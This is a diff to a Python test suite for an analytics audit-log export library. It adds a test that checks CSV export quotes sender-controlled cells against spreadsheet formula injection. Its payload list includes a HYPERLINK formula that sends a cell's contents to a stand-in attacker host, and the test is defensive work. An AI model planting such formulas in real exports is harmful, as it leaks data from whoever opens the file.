@@ -25,8 +25,10 @@ from sqlalchemy.orm import Session
 
 from analytics.actions import ACCOUNT_ACTIONS, record_action
 from analytics.audit import AuditEntry, AuditStatus, AuditStore, create_audit_engine
+from analytics.catalog import CATALOG
 from analytics.durations import as_utc
 from analytics.export import Export, ExportFormat, entry_record
+from analytics.messages import CONTEXT_KEY, build_message
 from analytics.personal_data import PersonalDataCipher
 from analytics.queries import (
     EXPORT_COLUMNS,
@@ -122,6 +124,43 @@ def test_csv_cells_people_name_cannot_run_as_spreadsheet_formulas(store: AuditSt
         for line in "".join(Export(store.engine, AuditFilter(), ExportFormat.NDJSON)).splitlines()
     ]
     assert (line["actor"], line["error"]) == (actor, "@SUM(1+1)")
+
+
+SENT_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\tx", "\rx"]
+"""`userId`s an application (or anyone holding its write key) may send: the library keeps them as sent."""
+
+
+def test_every_csv_text_cell_a_sender_controls_cannot_run_as_a_formula(engine: Engine) -> None:
+    """A raw message's `userId`, `messageId` and catalog version reached the CSV as sent: the guard
+    covered only the event, destination, actor and error cells. NDJSON keeps them as they are."""
+    key = Fernet.generate_key().decode()
+    store = AuditStore(engine, encryption_key=key)
+    spec = CATALOG.event("ProjectCreate").example_spec()
+    sent = []
+    for user_id in SENT_FORMULAS:
+        message = build_message(spec)
+        message["userId"] = user_id
+        sent.append(message)
+    odd = build_message(spec)
+    odd["messageId"], odd["context"][CONTEXT_KEY]["version"] = "=1+2", "-cafe"
+    sent.append(odd)
+    for message in sent:
+        store.record(message, status=AuditStatus.PENDING, source="application")
+    for cipher in (None, PersonalDataCipher(key)):
+        text = "".join(Export(engine, AuditFilter(), ExportFormat.CSV, cipher=cipher))
+        rows = list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))
+        by_id = {row["message_id"]: row for row in rows}
+        assert [by_id[message["messageId"]]["user_id"] for message in sent[:-1]] == [
+            f"'{user_id}" for user_id in SENT_FORMULAS
+        ]
+        (row,) = [row for row in rows if row["message_id"] == "'=1+2"]
+        assert (row["catalog_version"], row["user_id"]) == ("'-cafe", odd["userId"])
+        assert json.loads(row["payload"])["messageId"] == "=1+2"
+    lines = [
+        json.loads(line) for line in "".join(Export(engine, AuditFilter(), ExportFormat.NDJSON)).splitlines()
+    ]
+    assert {line["user_id"] for line in lines} >= set(SENT_FORMULAS)
+    assert "=1+2" in {line["message_id"] for line in lines}
 
 
 def test_ndjson_export_is_one_object_per_line_newest_first(store: AuditStore) -> None:
@@ -303,6 +342,7 @@ _EXPORT_BOTH_FORMATS = """
 import json, sys
 from analytics.audit import create_audit_engine
 from analytics.export import Export, ExportFormat, entry_record
+from analytics.messages import CONTEXT_KEY, build_message
 from analytics.queries import AuditFilter
 engine = create_audit_engine(sys.argv[1])
 produced = {}
